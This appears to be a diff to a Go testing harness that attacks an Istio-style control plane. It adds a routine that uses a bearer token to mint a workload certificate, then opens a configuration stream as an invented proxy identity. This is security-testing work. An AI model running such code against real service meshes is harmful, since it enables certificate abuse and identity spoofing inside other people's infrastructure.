@@ -6,6 +6,7 @@ import (
 	"crypto/ecdsa"
 	"crypto/elliptic"
 	"crypto/rand"
+	"crypto/tls"
 	"crypto/x509"
 	"encoding/pem"
 	"fmt"
@@ -177,11 +178,10 @@ func csrs(ctx context.Context, w *attacker) string {
 	}
 	speak := func(conn *grpc.ClientConn) string {
 		for {
-			der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{}, key)
+			csr, err := csrOf(key)
 			if err != nil {
 				return err.Error()
 			}
-			csr := &securityv1.IstioCertificateRequest{Csr: string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der}))}
 			w.count(func(c *Count) { c.Requests++ })
 			if err := conn.Invoke(w.bearer(ctx), certificateMethod, csr, &answer{}); err != nil {
 				return came(ctx, err)
@@ -201,6 +201,44 @@ func csrs(ctx context.Context, w *attacker) string {
 	}
 	defer conn.Close()
 	return speak(conn)
+}
+
+func csrOf(key *ecdsa.PrivateKey) (*securityv1.IstioCertificateRequest, error) {
+	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{}, key)
+	return &securityv1.IstioCertificateRequest{Csr: string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der}))}, err
+}
+
+// mints gets a certificate by the token, and with that opens a stream as a proxy of the identity that nobody has heard of.
+func mints(ctx context.Context, w *attacker) string {
+	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		return err.Error()
+	}
+	csr, err := csrOf(key)
+	if err != nil {
+		return err.Error()
+	}
+	conn, err := w.client(ctx, nil)
+	if err != nil {
+		return noConnection
+	}
+	w.count(func(c *Count) { c.Requests++ })
+	minted := &securityv1.IstioCertificateResponse{}
+	err = conn.Invoke(w.bearer(ctx), certificateMethod, csr, minted)
+	_ = conn.Close() // one at a time
+	if err != nil {
+		return came(ctx, err)
+	}
+	w.count(func(c *Count) { c.Answers++ })
+	leaf := tls.Certificate{PrivateKey: key}
+	for block, rest := pem.Decode([]byte(strings.Join(minted.GetCertChain(), ""))); block != nil; block, rest = pem.Decode(rest) {
+		leaf.Certificate = append(leaf.Certificate, block.Bytes)
+	}
+	if conn, err = w.client(ctx, &leaf); err != nil {
+		return noConnection
+	}
+	defer conn.Close()
+	return w.stream(ctx, conn, false, everything(w.node(w.invented(0))))
 }
 
 func (w *attacker) bearer(ctx context.Context) context.Context {
